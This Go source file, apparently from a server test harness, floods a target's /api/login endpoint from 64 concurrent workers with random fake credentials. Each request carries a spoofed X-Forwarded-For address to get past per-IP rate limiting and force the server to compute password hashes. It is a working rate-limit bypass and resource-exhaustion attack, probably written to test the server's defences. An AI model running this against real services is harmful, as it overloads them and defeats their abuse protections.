package attack

import (
	"context"
	"encoding/json"
	"fmt"
	mrand "math/rand/v2"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// guesses signs in as fast as the server lets it, each time as somebody else and from elsewhere: so the server says, as it
// believes proxies on this machine. Each guess that is looked at costs it a hash, whether there is such an account or not.
func guesses(ctx context.Context, t Target) (string, error) {
	const guessers = 64 // more than may wait for their turn
	address := "http" + strings.TrimPrefix(t.URL, "ws") + "/api/login"
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: guessers}, Timeout: 15 * time.Second}
	defer client.CloseIdleConnections()
	var looked, refused, other atomic.Int64
	var all sync.WaitGroup
	for range guessers {
		all.Go(func() {
			for ctx.Err() == nil {
				status, err := guess(ctx, client, address)
				switch {
				case err != nil:
					other.Add(1)
				case status == http.StatusUnauthorized:
					looked.Add(1)
				default:
					refused.Add(1)
				}
				if err != nil || status != http.StatusUnauthorized {
					pause(ctx, 20*time.Millisecond) // else all it does is to ask
				}
			}
		})
	}
	all.Wait()
	if looked.Load() == 0 {
		return "", fmt.Errorf("no guess was looked at; %d were refused, %d failed", refused.Load(), other.Load())
	}
	return fmt.Sprintf("%d guesses looked at, %d refused", looked.Load(), refused.Load()), nil
}

func guess(ctx context.Context, client *http.Client, address string) (int, error) {
	body, err := json.Marshal(map[string]string{
		"email": fmt.Sprintf("somebody-%d@example.org", mrand.Uint32()), "password": fmt.Sprintf("wrong horse battery %d", mrand.Uint32()),
	})
	if err != nil {
		return 0, err
	}
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, address, strings.NewReader(string(body)))
	if err != nil {
		return 0, err
	}
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("X-Forwarded-For", fmt.Sprintf("198.%d.%d.%d", 18+mrand.IntN(2), mrand.IntN(256), mrand.IntN(256)))
	answer, err := client.Do(r)
	if err != nil {
		return 0, err
	}
	return answer.StatusCode, answer.Body.Close()
}
